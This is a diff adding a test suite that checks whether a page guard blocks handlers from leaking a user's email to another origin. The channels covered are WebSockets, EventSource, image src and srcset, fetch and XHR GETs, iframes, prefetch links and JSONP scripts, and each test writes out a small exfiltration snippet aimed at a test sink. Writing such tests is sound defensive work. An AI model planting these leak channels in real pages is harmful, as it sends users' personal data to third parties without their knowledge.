@@ -240,6 +240,115 @@ describe('forms to other origins', function () {
   });
 });
 
+// Channels that carry data off the site without a non-idempotent request: a socket, an event
+// stream, an image's address or a GET whose query holds the data. The sink records WebSocket
+// handshakes and the text each socket sends, as well as plain requests.
+describe('other channels a page handler sends data by', function () {
+  this.timeout(20_000);
+  const email = () => 'ada@example.com';
+  const ws = () => sink.url('/socket').replace(/^http/, 'ws');
+  const onSave = (send: () => void) => (root: HTMLElement) => root.querySelector('#save')!.addEventListener('click', () => {
+    try {
+      send();
+    } catch {
+      // refused: the page's handler sees the error a blocked connection throws
+    }
+  });
+  const page = `${says('Click "Save".')}<label>Email <input id="email" value="ada@example.com"></label><button type="button" id="save">Save</button>`;
+  const refusedKinds = async (run: AttackRun) => {
+    expect(await sink.received(), 'what reached the other site').to.deep.equal([]);
+    expect(run.blocked.map((detail) => detail.effect?.kind)).to.deep.equal(['request']);
+    expect(run.blocked[0]!.message).to.include(sink.origin);
+  };
+
+  it('a WebSocket opened to another origin', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => new WebSocket(`${ws()}?email=${email()}`)) }));
+  });
+
+  it('a WebSocket opened before the action, written to by the click', async () => {
+    let socket: WebSocket;
+    const run = await attack({
+      page,
+      async setup(root) {
+        socket = new WebSocket(ws());
+        await new Promise((resolve) => socket.addEventListener('open', resolve, { once: true }));
+        onSave(() => socket.send(email()))(root);
+      },
+    });
+    socket!.close();
+    expect((await sink.received()).map((record) => record.method), 'only the handshake made before the task').to.deep.equal(['WEBSOCKET']);
+    expect(run.blocked.map((detail) => detail.effect?.method)).to.deep.equal(['SEND']);
+  });
+
+  it('an EventSource to another origin', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => new EventSource(sink.url(`/events?email=${email()}`))) }));
+  });
+
+  it('new Image().src with the data in its query', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => (new Image().src = sink.url(`/pixel.gif?email=${email()}`))) }));
+  });
+
+  it("an image's src attribute set on the page, data in its query", async () => {
+    await refusedKinds(await attack({ page: `${page}<img id="pixel" alt="">`, setup: onSave(() => document.querySelector('#pixel')!.setAttribute('src', sink.url(`/p.gif?e=${email()}`))) }));
+  });
+
+  it('an image srcset carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => (new Image().srcset = `${sink.url(`/p.gif?e=${email()}`)} 2x`)) }));
+  });
+
+  it('a fetch GET with the data in its query', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => void fetch(sink.url(`/api?email=${email()}`)).catch(() => undefined)) }));
+  });
+
+  it('an XHR GET with the data in its query', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const request = new XMLHttpRequest();
+      request.open('GET', sink.url(`/api?email=${email()}`));
+      request.send();
+    }) }));
+  });
+
+  it('a frame the handler adds, its address carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const frame = document.createElement('iframe');
+      frame.src = sink.url(`/frame?email=${email()}`);
+      document.body.append(frame);
+    }) }));
+  });
+
+  it('a prefetch link the handler adds, its href carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const link = document.createElement('link');
+      link.rel = 'prefetch';
+      link.setAttribute('href', sink.url(`/next?email=${email()}`));
+      document.head.append(link);
+    }) }));
+  });
+
+  it('a script the handler adds (JSONP), its src carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const script = document.createElement('script');
+      script.src = sink.url(`/jsonp.js?email=${email()}`);
+      document.head.append(script);
+    }) }));
+  });
+
+  it("an image from another origin with no data in its address still loads (a CDN's picture)", async () => {
+    const run = await attack({ page, setup: onSave(() => (new Image().src = sink.url('/photo.png'))) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /photo.png']);
+  });
+
+  it('a WebSocket to an origin the host allowed connects and sends', async () => {
+    const run = await attack({ page, config: { allowedOrigins: [sink.origin] }, setup: onSave(() => {
+      const socket = new WebSocket(ws());
+      socket.addEventListener('open', () => socket.send(email()));
+    }) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(2)).map((record) => `${record.method} ${record.body}`)).to.deep.equal(['WEBSOCKET ', `WS-SEND ${email()}`]);
+  });
+});
+
 describe('navigate and host routers', function () {
   this.timeout(20_000);
 
